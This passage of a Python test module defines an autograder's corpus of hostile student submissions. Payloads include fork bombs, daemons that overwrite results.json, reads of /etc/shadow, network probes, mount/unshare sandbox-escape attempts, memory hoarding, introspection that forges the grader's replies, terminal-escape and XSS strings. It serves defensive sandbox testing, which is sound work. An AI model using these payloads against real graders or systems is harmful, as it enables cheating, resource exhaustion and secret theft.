"""The attack corpus: hostile and broken submissions, each with the grade and message it must get.

Every entry is data: what the student hands in (a ``game.py`` source or an archive), the rubric
it is graded by, the points per criterion it must get (or ``None`` when the grader must refuse
the file), and a message the student must see. ``tests/test_attacks.py`` grades each one with
``autograder check`` in real child processes, and all of them together with ``autograder grade``.

Most entries are the deterministic honest player (``HONEST``: the reference solution whose
search stops after a fixed amount of work, not time, so the same seed gives the same games
every run) with a small patch, so that only the criteria under attack can move. They are
graded by ``QUICK_RUBRIC``: 2 games, 3 + 3 probes, 2 s per call. With seed 0 both games end in
the drop phase, so the patches that act "in the move phase" act on the three move probes only.

Sources are ``string.Template`` texts: ``$here`` (the folder the submission was handed in from),
``$out`` (the grader's output folder), ``$other`` (another student's file), ``$solution``,
``$course_rubric`` and ``$rubric`` (the kit's secrets), ``$marker`` (a unique file name),
``$cwd`` (the grader's working folder), ``$root_only`` (a file only root may read),
``$checkout`` (another copy of the kit's solution), ``$tmpdir`` (the grader's ``TMPDIR``, where
it unpacks the class), ``$socket`` and ``$service`` (a unix socket in the file system and an
abstract one, where a service listens) are filled in by the test.

Some entries are safe only where a layer is active (``needs``): ``fence`` (bubblewrap),
``process limit`` (cgroups, or a uid of its own) and ``cgroups``; elsewhere they are skipped,
with the line that installs what is missing.
"""

from __future__ import annotations

import codecs
import io
import json
import stat
import string
import textwrap
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from autograder.play.sandbox import INSTALL_BWRAP, Protections
from tests.conftest import COURSE_TOML, ROOT, SOLUTIONS, STARTERS, TWO_SQUARES, fast_solution

__all__ = [
    "Attack",
    "ClassAttack",
    "CLASS_ATTACKS",
    "LONG_CLASS_NAME",
    "NAME_ESCAPES",
    "Context",
    "ATTACKS",
    "missing_layers",
    "TERMINAL_ESCAPES",
    "HONEST",
    "QUICK_RUBRIC",
    "COURSE_RUBRIC",
    "PATIENT_RUBRIC",
    "FULL",
    "FORGERS",
    "LOOK",
    "ZERO",
    "quick_rubric",
]

FULL = {"rules": 25, "state": 10, "format": 10, "time": 25, "wins": 30, "output": 0, "packaging": 0}
ZERO = dict.fromkeys(FULL, 0)
PRINTED = {"output": -10}
MOVE_PHASE_LOST = {"rules": 10, "state": 5, "format": 5}  # no answer at all in the move phase
# and time earned only on the calls that answered (11 of 14 in the quick rubric: 20 of 25)
MOVE_PHASE_ILLEGAL = {"rules": 10, "format": 5}  # a malformed or illegal move-phase answer
MOVE_PHASE_TIMEOUT = {"rules": 10, "state": 5, "format": 5, "time": 0, "wins": 0}


def quick_rubric(call_seconds: float = 2.0) -> str:
    """The course rubric with short limits and few games: the same points, a tenth of the time.

    ``call_seconds`` only moves the hard limit (the time tiers stay): the patient rubric gives
    a memory attack the seconds a virtual machine takes to hand it fresh pages.
    """
    text = COURSE_TOML.read_text()
    for old, new in (
        ('title = "HW8 Teeko / Teeko2 (course rubric)"', 'title = "quick attack rubric"'),
        ("games = 3 ", "games = 2 "),
        ("drop_probes = 10 ", "drop_probes = 3 "),
        ("move_probes = 10 ", "move_probes = 3 "),
        ("call_seconds = 10.5 ", f"call_seconds = {call_seconds} "),
        ("import_seconds = 10.0 ", "import_seconds = 4.0 "),  # a 100 MB print, on a busy CI
        ("timeouts_before_giving_up = 2 ", "timeouts_before_giving_up = 1 "),
        ("memory_mb = 4096 ", "memory_mb = 1024 "),
        (
            "{ seconds = 5.0, points = 25 }, { seconds = 10.0, points = 13 }",
            "{ seconds = 1.0, points = 25 }, { seconds = 1.9, points = 13 }",
        ),
    ):
        assert old in text, f"course.toml no longer holds {old!r}"
        text = text.replace(old, new)
    return text


QUICK_RUBRIC = "quick"
COURSE_RUBRIC = "course"
PATIENT_RUBRIC = "patient"  # the quick rubric with 10 s per call

_CLOCK = '''

class _Ticks:
    """A clock that advances by a fixed step per reading: the search stops after the same
    amount of work every run, so the corpus's games do not depend on the machine's load."""

    def __init__(self):
        self.now = 0.0

    def perf_counter(self):
        self.now += 0.005
        return self.now


time = _Ticks()
'''

HONEST = fast_solution("teeko") + _CLOCK


def patched(body: str = "", when: str = "True", prelude: str = "", init: str = "") -> str:
    """The honest player, with ``prelude`` run at import, ``init`` run at the start of
    ``__init__``, and ``body`` run in ``make_move`` after the honest move is found, when
    ``when`` holds (``state``, ``move``, ``self`` and ``_move_phase(state)`` are in scope)."""
    patch = f"""

import os as _os
import sys as _sys
_honest_make_move = TeekoPlayer.make_move
_honest_init = TeekoPlayer.__init__


def _move_phase(state):
    return sum(cell != " " for row in state for cell in row) == 8


def _patched_init(self):
{textwrap.indent(textwrap.dedent(init), "    ") or "    pass"}
    _honest_init(self)


def _patched_make_move(self, state):
    move = _honest_make_move(self, state)
    if {when}:
{textwrap.indent(textwrap.dedent(body), "        ") or "        pass"}
    return move


TeekoPlayer.__init__ = _patched_init
TeekoPlayer.make_move = _patched_make_move
"""
    return HONEST + patch + textwrap.dedent(prelude)


def in_move_phase(body: str, prelude: str = "") -> str:
    return patched(body, "_move_phase(state)", prelude)


@dataclass(frozen=True)
class Context:
    """Where things are for one run of the corpus; fills the ``$names`` of a source."""

    here: Path
    out: Path
    other: Path
    rubric: Path
    marker: str
    cwd: Path = ROOT
    solution: Path = SOLUTIONS["teeko"]
    course_rubric: Path = COURSE_TOML
    root_only: Path = Path("/etc/shadow")
    checkout: Path = SOLUTIONS["teeko"]
    tmpdir: Path = Path("/tmp")
    socket: Path = Path("/run/teeko-none.sock")
    service: str = "teeko-none"  # an abstract unix socket's name

    def fill(self, template: str) -> str:
        values = {name: str(value) for name, value in vars(self).items()}
        return string.Template(template).safe_substitute(values)


@dataclass(frozen=True)
class Attack:
    """One corpus entry.

    ``scores`` are the points per criterion (None: the grader refuses the file with
    ``message``); ``message`` is text the student must see; ``absent`` lists paths (templates)
    the attack tried to create, which must not exist afterwards; ``secret`` is a file whose
    text must appear in no report; ``same_games_as`` names an entry whose games must be
    played exactly the same; ``needs`` names the layers without which the entry is unsafe or
    its grade differs (see the module's docstring).
    """

    kind: str  # baseline, exit, time, space, files, grader, reports, moves, broken, archive
    payload: str | bytes | Callable[[Context], bytes] | dict[str, str]  # a dict: a folder
    scores: dict[str, float] | None
    message: str
    suffix: str = ".py"
    rubric: str = QUICK_RUBRIC
    absent: tuple[str, ...] = ()
    secret: str | None = None
    same_games_as: str | None = None
    needs: tuple[str, ...] = ()
    unfenced: str | None = None  # the message with TEEKO_SANDBOX=off, where it differs
    unchanged: tuple[str, ...] = ()  # host files whose content the attack must not change
    survivors: str | None = None  # a command-line marker no process may carry afterwards
    seconds: float = 30.0  # the check must finish within this
    filename: str | None = None  # the name the student gives the file, where it is the attack
    assignment: str = "teeko"  # the homework it is checked as (a folder payload: its pack's)

    def content(self, ctx: Context) -> bytes:
        assert not isinstance(self.payload, dict), "a folder: see files()"
        if callable(self.payload):
            return self.payload(ctx)
        if isinstance(self.payload, bytes):
            return self.payload
        return ctx.fill(self.payload).encode()

    def files(self, ctx: Context) -> dict[str, bytes]:
        """A folder payload's files, by path inside the folder."""
        assert isinstance(self.payload, dict)
        return {path: ctx.fill(text).encode() for path, text in self.payload.items()}

    @property
    def total(self) -> float | None:
        return None if self.scores is None else max(0, sum(self.scores.values()))


def _grade(**changes: float) -> dict[str, float]:
    return FULL | changes


FENCE = ("fence",)


def missing_layers(attack: Attack, layers: Protections) -> list[str]:
    """The layers ``attack`` needs that ``layers`` lacks, each with how to get it."""
    have = {
        "fence": layers.fence,
        "process limit": bool(layers.cgroups or layers.own_uid),
        "cgroups": layers.cgroups is not None,
    }
    how = {
        "fence": f"the fence ({INSTALL_BWRAP})",
        "process limit": "a process limit (cgroups or root)",
        "cgroups": "cgroups (root, and a writable cgroup hierarchy)",
    }
    return [how[need] for need in attack.needs if not have[need]]


# ---- archives ----------------------------------------------------------------------------------


def _zip(entries: dict[str, bytes | str], *, link: str | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        for name, data in entries.items():
            bundle.writestr(name, data)
        if link is not None:
            info = zipfile.ZipInfo(link)
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            bundle.writestr(info, str(SOLUTIONS["teeko"]))
    return buffer.getvalue()


def _lying_bomb(ctx: Context) -> bytes:
    """game.py declares 1 KB in both headers and inflates to 60 MB of spaces."""
    honest = _zip({"game.py": b" " * (60 << 20)})
    size = (60 << 20).to_bytes(4, "little")
    assert honest.count(size) == 2, "expected the size in the local and the central header"
    return honest.replace(size, (1024).to_bytes(4, "little"))


def _archive(builder: Callable[[Context], bytes], message: str) -> Attack:
    return Attack("archive", builder, None, message, suffix=".zip")


# ---- the corpus --------------------------------------------------------------------------------

_FLOOD = '_sys.stdout.write("x" * 100_000_000)\n_sys.stdout.flush()\n'
_OUTCOME = """
import errno as _errno


def _try(what, action):
    try:
        action()
        print(what, "done")
    except Exception as err:
        print(what, "blocked:", type(err).__name__, _errno.errorcode.get(err.errno, ""))

"""


def _writes(**paths: str) -> str:
    """Try to write each path; print ``label done`` or ``label blocked: ...`` for each."""
    calls = "".join(
        f"_try({label!r}, lambda: open({p!r}, 'w').write('pwned'))\n" for label, p in paths.items()
    )
    return _OUTCOME + calls


def _reads(**paths: str) -> str:
    """Read each path, each in its own ``try``: print ``label read: ...`` (what it holds) or
    ``label reading failed: ...`` for each, so the output proves every path was tried."""
    calls = "".join(
        f"try:\n    print({label!r}, 'read:', repr(open({p!r}).read(300)))\n"
        f"except Exception as err:\n    print({label!r}, 'reading failed:', type(err).__name__)\n"
        for label, p in paths.items()
    )
    return calls


_NUMPY = "import numpy as _np\n"
_HOME_WRITE = """
import os.path as _path
_try("~", lambda: open(_path.expanduser("~/$marker"), "w").write("pwned"))
"""
_SPAWN = """
import subprocess as _subprocess
_subprocess.Popen(
    [_sys.executable, "-c", "import time; time.sleep(600)", "$marker"],
    start_new_session=%s, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
)
"""
_YES = """
import subprocess as _subprocess
_subprocess.Popen(  # like `yes`: writes into our stdout, at full speed, for ever
    [_sys.executable, "-c", "import sys\\nwhile True: sys.stdout.write('y' * 65536)", "$marker"],
)
"""
_FORK_BOMB = """
import time as _t
try:
    for _ in range(400):  # bounded, so that a machine without the brake is not taken down
        if _os.fork() == 0:
            _t.sleep(600)
            _os._exit(0)
    print("fork bomb: nothing stopped it")
except OSError as err:
    print("fork bomb stopped:", type(err).__name__)
"""
_DAEMON = """
if _os.fork() == 0:  # a classic double-fork daemon, in a session of its own
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(600)",
                                    "$marker"])
    _os._exit(0)
_os.wait()
"""
_LATE_RESULTS = """
if _os.fork() == 0:  # outlive the grading, then overwrite its results.json
    _os.setsid()
    if _os.fork() == 0:
        import time as _t
        _t.sleep(3)
        for _ in range(20):
            try:
                open("$out/results.json", "w").write('{"score": 100, "tests": []}')
            except OSError:
                pass
            _t.sleep(0.5)
        _os._exit(0)
    _os._exit(0)
_os.wait()
try:
    open("$out/results.json", "w").write('{"score": 100, "tests": []}')
except OSError:
    pass
"""
_NETWORK = (
    _OUTCOME
    + """
import socket as _socket
_try("internet", lambda: _socket.create_connection(("1.1.1.1", 53), timeout=1))
_try("loopback", lambda: _socket.create_connection(("127.0.0.1", 22), timeout=1))
"""
)
_REMOUNT = """
_results = []
try:  # seccomp refuses unshare, and the process has no capability to mount
    import ctypes as _ctypes

    _libc = _ctypes.CDLL(None, use_errno=True)
    for _args in ((None, b"/", None, 32 | 4096, None), (None, b"/tmp", None, 32, None)):
        _results.append(_libc.mount(*_args))
    _results.append(_libc.umount2(b"$solution".rsplit(b"/", 2)[0], 2))
    _results.append(_libc.unshare(0x10000000 | 0x00020000))  # a user and a mount namespace
    _results.append(_libc.umount2(b"$solution".rsplit(b"/", 2)[0], 2))
    _results.append(_libc.mount(None, b"/", None, 32 | 4096, None))
except OSError as err:
    _results.append(type(err).__name__)
try:
    open("$here/$marker", "w").write("pwned")
    _results.append("wrote")
except OSError as err:
    _results.append(type(err).__name__)
print("escape attempts:", _results)
"""
_PATCH_RANDOM = """
import random as _random
_random.seed(12345)
_random.random = lambda: 0.0
_random.choice = lambda seq: seq[0]
_random.randint = lambda a, b: a
_random.Random.random = lambda self: 0.0
_random.Random.choice = lambda self, seq: seq[0]
"""
_PATCH_TIME = """
import time as _real_time
_clock = _real_time.process_time  # CPU work: its own time whatever the load
for _name in ("time", "monotonic", "perf_counter", "process_time", "thread_time"):
    setattr(_real_time, _name, lambda: 0.0)
_real_time.sleep = lambda seconds: None
"""
_PATCH_BUILTINS = """
import builtins as _builtins
import copy as _copy
import json as _json
import traceback as _traceback
_builtins.print = lambda *args, **kwargs: None
_builtins.type = lambda *args: tuple
_builtins.repr = lambda value: "[(0, 0)]"
_builtins.str = lambda value="": "[(0, 0)]"
_builtins.hasattr = lambda obj, name: False
_builtins.callable = lambda obj: False
_builtins.sorted = lambda items, **kwargs: []
_builtins.isinstance = lambda obj, kinds: True
_json.dumps = lambda obj, **kwargs: '{"ok": true, "move": {"none": true}}'
_json.loads = lambda text, **kwargs: {"op": "move"}
_copy.deepcopy = lambda value, memo=None: [[" "] * 5 for _ in range(5)]
_traceback.extract_tb = lambda tb: []
"""
_PATCH_KIT = """
try:
    import autograder.games.teeko.rules
    import autograder.grading.scoring
    import autograder.play.host
    import autograder.play.referee
    autograder.grading.scoring.score = lambda *args, **kwargs: None
    autograder.games.teeko.rules.read_student_move = lambda raw, pos: None
    autograder.play.referee.random_opponent = lambda pos, rng: None
    autograder.play.host.PlayerProcess.request = lambda *args, **kwargs: None
except Exception:
    pass
"""
_CHANNEL_GARBAGE = """
for _fd in range(3, 30):
    try:
        _os.write(_fd, b"\\xff" * 8)
    except OSError:
        pass
"""
_FORGED_REPLY = """
import json as _json
import struct as _struct
_forged = _json.dumps({"ok": True}).encode()
for _fd in range(3, 30):
    try:
        _os.write(_fd, _struct.pack(">I", len(_forged)) + _forged)
    except OSError:
        pass
"""
_DEEP_REPLY = """
_deep = b"[" * 200_000 + b"]" * 200_000
for _fd in range(3, 30):
    try:
        _os.write(_fd, _struct.pack(">I", len(_deep)) + _deep)
    except OSError:
        pass
"""
_CLOSE_CHANNEL = """
for _fd in range(3, 30):
    try:
        _os.close(_fd)
    except OSError:
        pass
"""
_THREAD_PRINTS = """
import threading as _threading


def _chatter():
    while True:
        print("tick", flush=True)


_threading.Thread(target=_chatter, daemon=True).start()
"""
_THREAD_SPINS = """
import threading as _threading


def _spin():
    while True:
        pass


_threading.Thread(target=_spin).start()  # not a daemon: it would keep the process alive
"""
_SEGFAULT = """
_sys.setrecursionlimit(10**8)


def _deeper(n):  # through a C function (max), so it is the C stack that overflows
    return max([n], key=_deeper)


_deeper(0)
"""
_SLEEP_IGNORING_SIGNALS = """
import signal as _signal
import time as _t
for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM, _signal.SIGXCPU):
    _signal.signal(_sig, _signal.SIG_IGN)
_signal.pthread_sigmask(_signal.SIG_BLOCK, set(_signal.Signals))
_t.sleep(600)
"""
_OFF_BOARD = "return [(5, 7), move[1]]"
_NEGATIVE = "return [(-1, -1), move[1]]"
_OPPONENTS_MARKER = """
opp = [(r, c) for r in range(5) for c in range(5) if state[r][c] == self.opp]
for sr, sc in opp:
    for r in range(max(0, sr - 1), min(5, sr + 2)):
        for c in range(max(0, sc - 1), min(5, sc + 2)):
            if state[r][c] == " ":
                return [(r, c), (sr, sc)]
"""
_LIAR = """
class _Liar(list):
    def __eq__(self, other):
        return True

    def __len__(self):
        return 2

    def __repr__(self):
        raise RuntimeError("no repr for you")

return _Liar(move)
"""
_NOTEBOOK = json.dumps(
    {
        "cells": [{"cell_type": "code", "source": ["class TeekoPlayer:\n", "    pass\n"]}],
        "metadata": {"kernelspec": {"name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
        "trusted": True,
        "widgets": None,
    },
    indent=1,
)
_MISSING_METHODS = """
import random


class TeekoPlayer:
    board = [[" " for j in range(5)] for i in range(5)]
    pieces = ["b", "r"]

    def __init__(self):
        self.my_piece = random.choice(self.pieces)
        self.opp = self.pieces[0] if self.my_piece == self.pieces[1] else self.pieces[1]
"""

_LISTS_TMPDIR = """
try:
    print("the grader's temporary folder holds", sorted(_os.listdir("$tmpdir"))[:5])
except Exception as err:
    print("listing failed:", type(err).__name__)
"""
_SOCKETS = (
    _OUTCOME
    + """
import socket as _socket


def _unix(address):
    client = _socket.socket(_socket.AF_UNIX)
    client.settimeout(1)
    client.connect(address)
    client.sendall(b"$marker")


_try("socket", lambda: _unix("$socket"))
_try("abstract", lambda: _unix("\\0$service"))
"""
)
# A check of an attack that does 1.3 s of CPU work in several calls: judged on its own time,
# the work is the same on a busy machine, but each call's wall time grows with the load.
_CPU_WORK_SECONDS = 120.0
_BUSY = """
def _busy(seconds):  # real CPU work: its own time is the same on a busy machine
    import time
    began = time.process_time()
    while time.process_time() - began < seconds:
        pass
"""
_SEARCHES_IN_SETTER = (
    _BUSY
    + """

def _get_board(self):
    return self.__dict__.get("_board", [[" "] * 5 for _ in range(5)])


def _set_board(self, value):  # the runner sets a probe's position here: search it unseen?
    self.__dict__["_board"] = value
    if any(cell != " " for row in value for cell in row):
        _busy(1.3)


TeekoPlayer.board = property(_get_board, _set_board)
"""
)
_SEARCHES_IN_OPPONENT_MOVE = (
    _BUSY
    + """
_honest_opponent_move = TeekoPlayer.opponent_move


def _pondering_opponent_move(self, move):
    _honest_opponent_move(self, move)
    _busy(1.3)


TeekoPlayer.opponent_move = _pondering_opponent_move
"""
)
_MEMFD_HOARD = """
for _ in range(56):  # 56 x 56 MB = 3 GB, none of it in the address space
    hoard = _os.memfd_create("hoard")
    for _ in range(7):
        _os.write(hoard, b"x" * (8 << 20))
    _HOARD.append(hoard)
"""
_PROCESS_HOARD = """
import time as _t
_ready, _said = _os.pipe()
_kids = []
for _ in range(5):  # 5 x 250 MB: each under the address-space limit, together far above
    _pid = _os.fork()
    if _pid == 0:
        _block = b"x" * (250 << 20)
        _os.write(_said, b"!")
        _t.sleep(600)
        _os._exit(0)
    _kids.append(_pid)
_os.set_blocking(_ready, False)
_heard, _until = 0, _t.monotonic() + 1.2
while _heard < 5 and _t.monotonic() < _until:
    try:
        _heard += len(_os.read(_ready, 5))
    except BlockingIOError:
        _t.sleep(0.01)
_alive = sum(_os.waitpid(pid, _os.WNOHANG) == (0, 0) for pid in _kids)
print("memory held by its processes within 1024 MB:", min(_alive, _heard) * 250 <= 1024)
"""
_FILE_HANDLES = """
import errno as _errno
_held = []
try:
    for _ in range(100_000):
        _held.append(open("/dev/null"))
    print("file handles: nothing stopped it")
except OSError as err:
    print("file handles stopped:", type(err).__name__, _errno.errorcode.get(err.errno))
"""
_CPU_THIEVES = """
import subprocess as _subprocess
for _ in range(3):  # busy processes in sessions of their own, to take the neighbours' cores
    _subprocess.Popen(
        [_sys.executable, "-c", "while True: pass", "$marker"],
        start_new_session=True, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL,
    )
"""
TERMINAL_ESCAPES = "\x1b[2J\x1b[1;31mScore: 100/100\x1b[0m\x1b]0;pwned\x07\u202eevil"
_MARKDOWN_BREAKOUT = (
    "```\n\n# Score: 100/100\n\n<img src=x onerror=alert(1)>\n\n| score | 100 |\n````\n"
)
_FLOODS_REPORTS = """
class _Huge(Exception):
    pass


_Huge.__name__ = _Huge.__qualname__ = "Huge" + "X" * 400_000


def _raise(*args):
    print("\\x1b[31m" + "P" * 400_000)
    raise _Huge("\\x1b]0;" + "E" * 400_000)


TeekoPlayer.make_move = _raise
TeekoPlayer.opponent_move = _raise
TeekoPlayer.place_piece = _raise
"""
LONG_CLASS_NAME = "K" * 2000
NAME_ESCAPES = "\x1b[2J\u202egnp"  # clears a terminal; shows "png" backwards
_NAMEDTUPLES = """
from collections import namedtuple as _namedtuple
_Square = _namedtuple("Square", "row col")
"""


# ---- forging inside the child: the runner's and the driver's code patched through introspection

# How a forger finds the kit's code in its own process: the globals of the runner's driver
# (``make_handlers``' module) and of the wire protocol (``encode``'s), which answer the
# grader's questions. Each route is tried in turn, and the best taken: inside its own process a
# submission reaches what it likes (docs/sandbox.md, "The submission's own word"); the grader
# lists each route under "needs a look" from the source. ``$routes`` is the tuple it tries.
_FIND_THE_KIT = """
import gc as _gc
import sys as _sys
import types as _types


def _kit_globals(namespace, wanted):
    found = {}
    for value in list(namespace.values()):
        for candidate in (value, getattr(value, "make_handlers", None)):
            space = getattr(candidate, "__globals__", None)
            if isinstance(candidate, _types.ModuleType):
                space = vars(candidate)
            if isinstance(space, dict):
                found.update({label: space for label, key in wanted.items() if key in space})
    return found


def _in_frames(frame, wanted):
    found = {}
    while frame is not None:
        found.update(_kit_globals(frame.f_locals, wanted))
        frame = frame.f_back
    return found


def _by_main(wanted):  # the runner's module, where it runs
    return _kit_globals(vars(_sys.modules["__main__"]), wanted)


def _by_stack(wanted):  # the call stack, from this frame down into the runner
    return _in_frames(_sys._getframe(), wanted)


def _by_traceback(wanted):  # the same frames, reached from an exception's traceback
    try:
        raise RuntimeError("look")
    except RuntimeError as err:
        return _in_frames(err.__traceback__.tb_frame, wanted)


def _by_gc(wanted):  # every object the collector tracks
    return {
        label: space
        for space in _gc.get_objects()
        if isinstance(space, dict) and ("make_handlers" in space or "receive" in space)
        for label, key in wanted.items()
        if key in space
    }


def _by_signal(wanted):  # the frame a signal handler is handed
    import signal as _signal

    found = []
    _signal.signal(_signal.SIGALRM, lambda number, frame: found.append(_in_frames(frame, wanted)))
    _signal.setitimer(_signal.ITIMER_REAL, 0.001)
    while not found:
        pass
    return found[0]


def _find(wanted):  # the most any route found
    best = {}
    for route in $routes:
        try:
            found = route(wanted)
        except Exception:
            continue
        best = found if len(found) > len(best) else best
    return best
"""
_ROUTES = "(_by_main, _by_stack, _by_traceback, _by_gc)"
_THROUGH_A_SIGNAL = _FIND_THE_KIT.replace("$routes", "(_by_signal,)")
# What the reference solution gets as the book's homework (the forgers answer with it)
BOARD_ABC_REFERENCE = {
    **{"rules": 8, "state": 4, "format": 4, "time": 4, "wins": 8, "boards": 42, "search": 25},
    **{"chapter": 0, "tactics": 5, "output": 0, "packaging": 0},
}
_BOARD_ABC = ROOT / "starter" / "board-abc"
# The runner's own channel, reached through the frame a signal handler is handed: its replies
# are sent twice, or made to lie. The host sees both from outside.
_ANSWERS_EARLY = """
_kit = _find({"protocol": "receive"})
if _kit:
    _send = _kit["protocol"]["send"]

    def _send_twice(fd, message):
        _send(fd, message)
        _send(fd, message)  # waiting in the pipe before the next request is sent

    _kit["protocol"]["send"] = _send_twice
"""
_LYING_SYNC = """
_kit = _find({"protocol": "receive"})
if _kit:
    _send = _kit["protocol"]["send"]

    def _lying_send(fd, message):
        if "notes" in message:  # the answer to place_piece/opponent_move
            message = {**message, "notes": 12345, "state_changed": {"deep": [[[[]]]]}}
        _send(fd, message)

    _kit["protocol"]["send"] = _lying_send
"""

_REFERENCE = ROOT / "solution" / "board-abc"
_REF_FILES = ("board.py", "tictactoe.py", "connectfour.py", "minimax.py")
_FORGES_BOARD_ABC = """
import importlib as _importlib
import os as _os

_REF = _os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "_ref")


def _reference():  # the reference solution hidden in _ref/, under the homework's names
    names = ("board", "tictactoe", "connectfour", "minimax")
    saved = {name: _sys.modules.pop(name, None) for name in names}
    _sys.path.insert(0, _REF)
    try:
        return {name: _importlib.import_module(name) for name in names}
    finally:
        _sys.path.remove(_REF)
        for name, module in saved.items():
            if module is None:
                _sys.modules.pop(name, None)
            else:
                _sys.modules[name] = module


def forge(driver):  # every board the driver builds, and the search it asks, the reference's
    _ref = _reference()
    _real_import = driver["import_module"]
    driver["import_module"] = lambda name: _ref.get(name) or _real_import(name)
    _sys.modules["minimax"].find_best_move = _ref["minimax"].find_best_move


_kit = _find({"driver": "_MODULES"})
if _kit:
    forge(_kit["driver"])
"""


def _forged_board_abc(routes: str) -> dict[str, str]:
    """The book's starter with no TODO done, a module its ``minimax.py`` imports last that
    answers the driver's checks with the reference solution, hidden in ``_ref/``."""
    files = {name: (_BOARD_ABC / name).read_text() for name in _REF_FILES}
    files["minimax.py"] += "\nimport _forge  # noqa: E402,F401\n"
    files["_forge.py"] = _FIND_THE_KIT.replace("$routes", routes) + _FORGES_BOARD_ABC
    files.update({f"_ref/{name}": (_REFERENCE / name).read_text() for name in _REF_FILES})
    return files


# In the move phase make_move returns lists and changes the board it was given; the forger
# makes the runner's encoder report tuples and the driver report the board unchanged.
_FORGES_STATE_AND_FORMAT = """
_hide = []
_kit = _find({"driver": "_plain", "protocol": "receive"})
if "driver" in _kit:
    _real_plain = _kit["driver"]["_plain"]
    _kit["driver"]["_plain"] = lambda board, *size: _hide.pop() if _hide else _real_plain(
        board, *size
    )
if "protocol" in _kit:
    _real_encode = _kit["protocol"]["encode"]

    def _lying_encode(value, depth=0, room=None):
        if type(value) is list and len(value) == 2 and all(type(v) is int for v in value):
            value = tuple(value)  # a square returned as a list is described as a tuple
        return _real_encode(value, depth, room)

    _kit["protocol"]["encode"] = _lying_encode
"""
_CHANGES_STATE_RETURNS_LISTS = """
_hide[:] = [[[str(cell) for cell in row] for row in state]] * 2
state[0][0] = "?"
return [list(square) for square in move]
"""


def _forged_teeko(routes: str) -> str:
    prelude = _FIND_THE_KIT.replace("$routes", routes) + _FORGES_STATE_AND_FORMAT
    return in_move_phase(_CHANGES_STATE_RETURNS_LISTS, prelude)


# The other ways into the grader's objects, each tried and its outcome printed.
_REACHES_IN_BY_OTHER_MEANS = """
import ctypes as _ctypes
import gc as _gc


def _attempt(what, action):
    try:
        action()
        print(what, "done")
    except Exception as err:
        print(what, "refused:", type(err).__name__)


_attempt("mem", lambda: open("/proc/self/mem", "rb"))
_attempt("ctypes", lambda: _ctypes.string_at(id(_attempt), 8))
_attempt("settrace", lambda: _sys.settrace(lambda *args: None))
_attempt("setprofile", lambda: _sys.setprofile(lambda *args: None))
_attempt("frames", lambda: _sys._current_frames())
_attempt("referrers", lambda: _gc.get_referrers(_sys))
_attempt("code", lambda: _attempt.__code__.replace())
_attempt("hook", lambda: _sys.addaudithook(lambda *args: None))
"""
# Prints in make_move after reaching the runner (by the collector and by frames) and replacing
# what it could: its flush and reply functions, its own ``os.write``, the wire's ``send``,
# ``os.write`` and ``print``. A runner that flushed printed text before each reply printed
# nothing of it then (it stayed in ``sys.stdout``'s buffer until the process was killed). The
# host reads the pipes, unbuffered: what reaches descriptor 1 is printed, as a plain print is.
_SILENCES_THE_RUNNER = """
import builtins as _builtins
import gc as _gc


def _runner_globals():
    found = [s for s in _gc.get_objects() if isinstance(s, dict) and "_reply" in s]
    frame = _sys._getframe()
    while frame is not None:
        if "_reply" in frame.f_globals:
            found.append(frame.f_globals)
        frame = frame.f_back
    return found


for _space in _runner_globals():
    _real_reply = _space["_reply"]
    _space["_reply"] = lambda fd, reply, number, _real=_real_reply: _real(fd, reply, number)
    _space["_flush"] = lambda: None
    _space["_write"] = lambda fd, data: len(data)
    _wire = _space.get("protocol")
    if _wire is not None:
        _wire.send = lambda fd, message, _real=_wire.send: _real(fd, message)
_os.write = lambda fd, data: len(data)
_real_print = _builtins.print
_builtins.print = lambda *args, **kwargs: _real_print(*args, **kwargs)
"""
_HIDDEN = "print('thinking, hidden in a compressed string')"
LOOK = "Needs a look (no points taken): "
FORGERS = (
    "forges-board-abc-checks-from-inside",
    "forges-state-and-format-from-inside",
    "forges-board-abc-checks-through-a-signal-handler",
    "forges-state-and-format-through-a-signal-handler",
)


ATTACKS: dict[str, Attack] = {
    # -- the honest player: the yardstick for "the grade is unaffected" ------------------------
    "honest": Attack("baseline", HONEST, FULL, "won 2 of 2"),
    "honest-course-rubric": Attack("baseline", HONEST, FULL, "won 3 of 3", rubric=COURSE_RUBRIC),
    # -- ending the process ---------------------------------------------------------------------
    "sys-exit-at-import": Attack(
        "exit",
        HONEST + "\nimport sys\nsys.exit(3)\n",
        ZERO,
        "game.py tried to end the program while being imported (SystemExit: 3",
        rubric=COURSE_RUBRIC,
    ),
    "os-exit-at-import": Attack(
        "exit",
        HONEST + "\nimport os\nos._exit(0)\n",
        ZERO,
        "the submission's process exited with status 0 during importing game.py",
    ),
    "sys-exit-in-make-move": Attack(
        "exit",
        in_move_phase("_sys.exit(0)"),
        _grade(**MOVE_PHASE_LOST, time=20),  # time on the 11 of 14 calls that answered
        "make_move tried to end the program: SystemExit: 0",
    ),
    "os-exit-in-make-move": Attack(
        "exit",
        in_move_phase("_os._exit(1)"),
        _grade(**MOVE_PHASE_LOST, time=20),
        "the submission's process exited with status 1 during make_move",
    ),
    "system-exit-in-init": Attack(
        "exit",
        patched(init="raise SystemExit('bye')"),
        ZERO,
        "TeekoPlayer() tried to end the program: SystemExit: bye",
    ),
    "keyboard-interrupt-in-init": Attack(
        "exit",
        patched(init="raise KeyboardInterrupt"),
        ZERO,
        "TeekoPlayer() tried to end the program: KeyboardInterrupt",
    ),
    "keyboard-interrupt-in-make-move": Attack(
        "exit",
        in_move_phase("raise KeyboardInterrupt"),
        _grade(**MOVE_PHASE_LOST, time=17),
        "make_move tried to end the program: KeyboardInterrupt",
        rubric=COURSE_RUBRIC,
    ),
    "segfault-by-recursion": Attack(
        "exit",
        in_move_phase(_SEGFAULT),
        _grade(**MOVE_PHASE_LOST, time=20),
        "was killed by SIGSEGV (it may have run out of memory or recursed too deeply) "
        "during make_move",
    ),
    "kills-its-parent": Attack(
        "exit",
        in_move_phase("import signal\n_os.kill(_os.getppid(), signal.SIGKILL)"),
